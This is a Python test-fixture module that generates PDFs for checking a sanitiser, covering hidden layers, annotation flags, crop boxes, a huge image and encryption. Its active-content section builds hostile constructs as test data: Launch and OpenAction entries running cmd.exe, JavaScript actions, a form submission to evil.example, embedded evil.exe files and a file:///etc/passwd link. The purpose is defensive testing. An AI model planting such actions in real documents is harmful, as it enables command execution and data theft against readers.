"""Source PDFs made at test time, each showing one thing a bundle must keep or drop.

Every function gives the bytes of a small PDF written with pikepdf (Helvetica text, one
word per place, so a test can find each word with ``pdftotext -bbox``). Nothing here is
downloaded or committed as a PDF: the tests write these into a case folder.

Which words each fixture shows, and which it hides, is in its docstring; the tests
assert on those words.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

A4 = (595.28, 841.89)


def _font(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )


def text_ops(words: Iterable[tuple[float, float, str]], size: float = 11) -> bytes:
    """Content that writes each (x, y, word) in Helvetica (resource /F1)."""
    ops = []
    for x, y, word in words:
        ops.append(f"BT /F1 {size} Tf {x:.2f} {y:.2f} Td ({word}) Tj ET")
    return ("\n".join(ops) + "\n").encode("latin-1")


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def page_pdf(
    content: bytes | Callable[[pikepdf.Pdf], bytes],
    *,
    box: tuple[float, float, float, float] = (0, 0, *A4),
    extra: Callable[[pikepdf.Pdf, pikepdf.Page], None] | None = None,
) -> bytes:
    """One page with Helvetica as /F1 and the given content; ``extra`` may change it."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(box[2], box[3]))
    page.obj.MediaBox = Array(list(box))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=_font(pdf)))
    data = content(pdf) if callable(content) else content
    page.obj.Contents = pdf.make_stream(data)
    if extra is not None:
        extra(pdf, page)
    return _save(pdf)


# ----------------------------------------------------------------------- what must stay or go


def hidden_layer() -> bytes:
    """Shows VISIBLELETTER; hides, in three layers that are off in the default view,
    STAFFNOTE DONOTDISCLOSE (marked content), FORMSECRET (a form XObject) and
    ANNOTSECRET (an annotation). A layer that is on shows LAYERSHOWN."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=A4)
    font = _font(pdf)
    off = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Staff note, do not disclose")))
    on = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Letter")))
    form = pdf.make_stream(text_ops([(72, 500, "FORMSECRET")]))
    form.Type, form.Subtype = Name.XObject, Name.Form
    form.BBox = Array([0, 0, *A4])
    form.Resources = Dictionary(Font=Dictionary(F1=font))
    form.OC = off
    page.obj.Resources = Dictionary(
        Font=Dictionary(F1=font), Properties=Dictionary(Off=off, On=on), XObject=Dictionary(Fm=form)
    )
    page.obj.Contents = pdf.make_stream(
        text_ops([(72, 760, "VISIBLELETTER")])
        + b"/OC /Off BDC\n"
        + text_ops([(72, 700, "STAFFNOTE"), (72, 680, "DONOTDISCLOSE")])
        + b"EMC\n/OC /On BDC\n"
        + text_ops([(72, 640, "LAYERSHOWN")])
        + b"EMC\n/Fm Do\n"
    )
    appearance = pdf.make_stream(text_ops([(0, 5, "ANNOTSECRET")]))
    appearance.Type, appearance.Subtype = Name.XObject, Name.Form
    appearance.BBox = Array([0, 0, 200, 20])
    appearance.Resources = Dictionary(Font=Dictionary(F1=font))
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Stamp,
            Rect=Array([72, 400, 272, 420]),
            AP=Dictionary(N=appearance),
            OC=off,
            F=4,
        )
    )
    # a visible annotation whose own appearance holds a hidden section
    drawn = pdf.make_stream(
        text_ops([(0, 25, "APSHOWN")]) + b"/OC /Off BDC\n" + text_ops([(0, 5, "APSECRET")]) + b"EMC\n"
    )
    drawn.Type, drawn.Subtype = Name.XObject, Name.Form
    drawn.BBox = Array([0, 0, 200, 40])
    drawn.Resources = Dictionary(Font=Dictionary(F1=font), Properties=Dictionary(Off=off))
    shown = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=Array([72, 300, 272, 340]), AP=Dictionary(N=drawn), F=4)
    )
    # visibility expressions (which take precedence over /P): VEVISIBLE is drawn, VEHIDDEN not
    not_off = pdf.make_indirect(Dictionary(Type=Name.OCMD, OCGs=Array([off]), P=Name.AllOn, VE=Array([Name.Not, off])))
    on_and_off = pdf.make_indirect(
        Dictionary(Type=Name.OCMD, OCGs=Array([on, off]), P=Name.AnyOn, VE=Array([Name.And, on, off]))
    )
    page.obj.Resources.Properties.VeVisible = not_off
    page.obj.Resources.Properties.VeHidden = on_and_off
    page.obj.Contents = pdf.make_stream(
        page.obj.Contents.read_bytes()
        + b"/OC /VeVisible BDC\n"
        + text_ops([(72, 250, "VEVISIBLE")])
        + b"EMC\n/OC /VeHidden BDC\n"
        + text_ops([(72, 220, "VEHIDDEN")])
        + b"EMC\n"
    )
    page.obj.Annots = Array([annot, shown])
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([off, on]), D=Dictionary(ON=Array([on]), OFF=Array([off]), Order=Array([off, on]))
    )
    return _save(pdf)


#: what ``hidden_layer`` shows, and what it must not
LAYER_SHOWN = ("VISIBLELETTER", "LAYERSHOWN", "APSHOWN", "VEVISIBLE")
LAYER_HIDDEN = ("STAFFNOTE", "DONOTDISCLOSE", "FORMSECRET", "ANNOTSECRET", "APSECRET", "VEHIDDEN")


def annotation_flags() -> bytes:
    """Stamps with appearances: PRINTFLAG (print flag) and NOFLAG (no flags) are shown on
    screen; HIDDENFLAG (hidden) and NOVIEWFLAG (no view) are not; a sticky note holding
    STICKYNOTE has no appearance of its own (a viewer shows an icon and a pop-up)."""

    def extra(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        font = page.obj.Resources.Font.F1
        annots = []
        for flags, word, y in (
            (2, "HIDDENFLAG", 600),
            (32 | 4, "NOVIEWFLAG", 560),
            (4, "PRINTFLAG", 520),
            (0, "NOFLAG", 480),
        ):
            ap = pdf.make_stream(text_ops([(0, 5, word)]))
            ap.Type, ap.Subtype = Name.XObject, Name.Form
            ap.BBox = Array([0, 0, 200, 20])
            ap.Resources = Dictionary(Font=Dictionary(F1=font))
            annots.append(
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.Stamp,
                        Rect=Array([72, y, 272, y + 20]),
                        AP=Dictionary(N=ap),
                        F=flags,
                    )
                )
            )
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Text,
            Rect=Array([72, 400, 92, 420]),
            Contents=String("STICKYNOTE from the head"),
        )
        annots.append(pdf.make_indirect(note))
        page.obj.Annots = Array(annots)

    return page_pdf(text_ops([(72, 720, "FLAGSPAGE")]), extra=extra)


def filled_form(with_appearance: bool = False) -> bytes:
    """A form whose text field holds FORMVALUEMORGAN (its label FIELDLABEL is page text).
    Without ``with_appearance`` the field has no appearance stream, only its value and
    NeedAppearances, as many form fillers leave it."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=A4)
    font = _font(pdf)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(text_ops([(72, 720, "FIELDLABEL")]))
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("parent_name"),
        V=String("FORMVALUEMORGAN"),
        DA=String("/Helv 12 Tf 0 g"),
        Rect=Array([72, 680, 372, 704]),
        F=4,
        P=page.obj,
    )
    if with_appearance:
        ap = pdf.make_stream(b"/Tx BMC q BT /Helv 12 Tf 0 g 2 7 Td (FORMVALUEMORGAN) Tj ET Q EMC\n")
        ap.Type, ap.Subtype = Name.XObject, Name.Form
        ap.BBox = Array([0, 0, 300, 24])
        ap.Resources = Dictionary(Font=Dictionary(Helv=font))
        field.AP = Dictionary(N=ap)
    widget = pdf.make_indirect(field)
    page.obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget]),
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=font)),
        NeedAppearances=not with_appearance,
    )
    return _save(pdf)


#: the words of ``corners``, by where they sit on the page
CORNER_WORDS = ("NWCORNER", "NECORNER", "SWCORNER", "SECORNER", "TOPEDGE", "BOTTOMEDGE", "LEFTEDGE", "RIGHTEDGE")


def corners(size: tuple[float, float] = A4) -> bytes:
    """Text in each corner and on the middle of each edge, 4 pt from the edge, with a
    footer line FOOTREF at the foot of the page (where a stamp would go)."""
    w, h = size
    fs = 9
    word_w = {word: 0.556 * fs * len(word) + 6 for word in (*CORNER_WORDS, "FOOTREF")}  # Helvetica caps, generous
    top, bottom = h - 4 - fs, 4.0
    words = [
        (4, top, "NWCORNER"),
        (w - 4 - word_w["NECORNER"], top, "NECORNER"),
        (4, bottom, "SWCORNER"),
        (w - 4 - word_w["SECORNER"], bottom, "SECORNER"),
        (w / 2 - word_w["TOPEDGE"] / 2, top, "TOPEDGE"),
        (w / 2 - word_w["BOTTOMEDGE"] / 2 - 80, bottom, "BOTTOMEDGE"),
        (4, h / 2, "LEFTEDGE"),
        (w - 4 - word_w["RIGHTEDGE"], h / 2, "RIGHTEDGE"),
        (w / 2 + 60, bottom + 12, "FOOTREF"),
    ]
    return page_pdf(text_ops(words, fs), box=(0, 0, w, h))


def shared_content(pages: int = 3) -> bytes:
    """``pages`` pages drawing one content stream object: each shows SHAREDTEXT."""
    pdf = pikepdf.new()
    font = _font(pdf)
    stream = pdf.make_stream(text_ops([(72, 720, "SHAREDTEXT")]))
    resources = pdf.make_indirect(Dictionary(Font=Dictionary(F1=font)))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=A4)
        page.obj.Resources = resources
        page.obj.Contents = stream
    return _save(pdf)


def inherited_boxes() -> bytes:
    """Two pages whose MediaBox (A4 landscape-sized 842 x 595), Rotate (90) and Resources
    are given only on the Pages node; page one shows INHERITONE, page two INHERITTWO."""
    content = [text_ops([(72, 500, "INHERITONE")]), text_ops([(72, 500, "INHERITTWO")])]
    font_dict = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    # written by hand: pikepdf pushes inherited attributes down to the pages when it
    # edits the page tree, so the file is assembled object by object
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 842 595] /Rotate 90 "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 7 0 R >>",
        font_dict.unparse(),
    ]
    for data in content:
        objects.append(b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream")
    return _handwritten(objects)


def _handwritten(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def big_crop_box() -> bytes:
    """A CropBox larger than the MediaBox on every side; CROPINSIDE sits near each corner
    of the media box (all of it visible), with a corner word in each."""
    w, h = A4
    words = [(6, h - 16, "CROPNW"), (w - 60, h - 16, "CROPNE"), (6, 6, "CROPSW"), (w - 60, 6, "CROPSE")]
    words.append((200, 400, "CROPINSIDE"))

    def extra(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        page.obj.CropBox = Array([-100, -100, w + 100, h + 100])

    return page_pdf(text_ops(words, 9), extra=extra)


def offset_crop_box() -> bytes:
    """A 1000 x 1200 media box cropped to [300 400 700 900]: the crop shows OFFSETNW,
    OFFSETSE (in its corners) and OFFSETMID; OUTSIDECROP lies outside it and must not
    show."""
    words = [(304, 884, "OFFSETNW"), (640, 404, "OFFSETSE"), (450, 650, "OFFSETMID"), (40, 40, "OUTSIDECROP")]

    def extra(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        page.obj.CropBox = Array([300, 400, 700, 900])

    return page_pdf(text_ops(words, 9), box=(0, 0, 1000, 1200), extra=extra)


def huge_image(width: int = 30_000, height: int = 30_000) -> bytes:
    """A page drawing one 1-bit image of ``width`` x ``height`` pixels (a few hundred KiB
    compressed; a viewer would decode it to ``width * height`` pixels)."""
    row = b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = [compressor.compress(row) for _ in range(height)]
    data = b"".join(chunks) + compressor.flush()

    def content(pdf: pikepdf.Pdf) -> bytes:
        image = pikepdf.Stream(pdf, data)
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width, image.Height = width, height
        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 1
        image.Filter = Name.FlateDecode
        pdf.pages[0].obj.Resources.XObject = Dictionary(Im=pdf.make_indirect(image))
        return b"q 500 0 0 500 40 200 cm /Im Do Q\n" + text_ops([(72, 760, "HUGEIMAGE")])

    return page_pdf(content)


def encrypted(user: str = "", owner: str = "owner-secret", *, r: int = 6) -> bytes:
    """ENCRYPTEDTEXT, AES-encrypted (R 6 is AES-256, R 4 AES-128); ``user`` is the
    password needed to open it (empty: it opens without one)."""
    plain = page_pdf(text_ops([(72, 720, "ENCRYPTEDTEXT")]))
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        return _save(pdf, encryption=pikepdf.Encryption(user=user, owner=owner, R=r, aes=True))


# ----------------------------------------------------------------------- what can act


def _with_page(edit: Callable[[pikepdf.Pdf, pikepdf.Page], None], word: str) -> bytes:
    return page_pdf(text_ops([(72, 720, word)]), extra=edit)


def _link(pdf: pikepdf.Pdf, page: pikepdf.Page, action: Dictionary, y: float = 600) -> None:
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 300, y + 20]), Border=Array([0, 0, 0]), A=action
        )
    )
    page.obj.Annots = Array([*page.obj.get("/Annots", Array()), annot])


def _launch(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe /c calc"))))


def _document_js(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('EVILSCRIPT');")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("evil"), js])))


def _annotation_js(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.JavaScript, JS=String("app.alert('EVILSCRIPT');")))


def _submit_form(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))))


def _import_data(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.ImportData, F=String("evil.fdf")))


def _goto_remote(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])))


def _goto_embedded(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("evil.exe")), D=Array([0, Name.Fit])))


def _additional_actions(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('EVILSCRIPT');"))
    page.obj.AA = Dictionary(O=js)
    pdf.Root.AA = Dictionary(WC=js)
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([72, 500, 92, 520]), AA=Dictionary(E=js))
    )
    page.obj.Annots = Array([annot])


def _open_action(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _embedded_file(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00EVILPAYLOAD", filename="evil.exe")
    attached = pikepdf.AttachedFileSpec(pdf, b"EVILPAYLOAD", filename="note.exe")
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([72, 450, 92, 470]),
            FS=attached.obj,
        )
    )
    page.obj.Annots = Array([annot])


def _rich_media(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    asset = pdf.make_stream(b"EVILPAYLOAD")
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([72, 300, 372, 500]),
            RichMediaContent=Dictionary(
                Assets=Dictionary(
                    Names=Array([String("movie.swf"), Dictionary(Type=Name.Filespec, EF=Dictionary(F=asset))])
                )
            ),
        )
    )
    page.obj.Annots = Array([annot])


def _three_d(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    model = pdf.make_stream(b"EVILPAYLOAD")
    model.Type, model.Subtype = Name("/3D"), Name.U3D
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([72, 300, 372, 500]), **{"/3DD": model})
    )
    page.obj.Annots = Array([annot])


def _allowed_links(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _link(pdf, page, Dictionary(S=Name.URI, URI=String("https://www.gov.uk/school-attendance")), y=600)
    _link(pdf, page, Dictionary(S=Name.URI, URI=String("http://plain.example/")), y=560)
    _link(pdf, page, Dictionary(S=Name.URI, URI=String("file:///etc/passwd")), y=520)
    second = pdf.add_blank_page(page_size=A4)
    second.obj.Resources = page.obj.Resources
    second.obj.Contents = pdf.make_stream(text_ops([(72, 720, "SECONDPAGE")]))
    _link(pdf, page, Dictionary(S=Name.GoTo, D=Array([second.obj, Name.Fit])), y=480)


def _in_resources(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    """Actions and a file tucked where a viewer never runs them, but where a copy of the
    page's resources would carry them along: in marked-content properties, a font and a
    form's dictionary."""
    launch = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("cmd.exe")))
    payload = pdf.make_stream(b"EVILPAYLOAD")
    payload.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=payload)))
    resources = page.obj.Resources
    resources.Properties = Dictionary(MC0=Dictionary(Action=launch, File=spec))
    resources.Font.F1.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert('EVILSCRIPT');")))
    form = pdf.make_stream(text_ops([(72, 650, "FORMWORD")]))
    form.Type, form.Subtype = Name.XObject, Name.Form
    form.BBox = Array([0, 0, *A4])
    form.Resources = Dictionary(Font=Dictionary(F1=resources.Font.F1))
    form.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('EVILSCRIPT');"))
    resources.XObject = Dictionary(Fm=form)
    page.obj.Contents = pdf.make_stream(page.obj.Contents.read_bytes() + b"/Fm Do\n")


#: each class of active content, by name: what puts it into a page
ACTIVE = {
    "launch": _launch,
    "document-javascript": _document_js,
    "annotation-javascript": _annotation_js,
    "submit-form": _submit_form,
    "import-data": _import_data,
    "goto-remote": _goto_remote,
    "goto-embedded": _goto_embedded,
    "additional-actions": _additional_actions,
    "open-action": _open_action,
    "embedded-file": _embedded_file,
    "rich-media": _rich_media,
    "3d": _three_d,
    "in-resources": _in_resources,
}


def active(kind: str) -> bytes:
    """A page showing ACTIVEPAGE that holds one class of active content (``ACTIVE``)."""
    return _with_page(ACTIVE[kind], "ACTIVEPAGE")


def links() -> bytes:
    """Page one (LINKSPAGE) links to https:, http: and file: addresses and to page two
    (SECONDPAGE); only the https: link and the link to page two may survive."""
    return _with_page(_allowed_links, "LINKSPAGE")
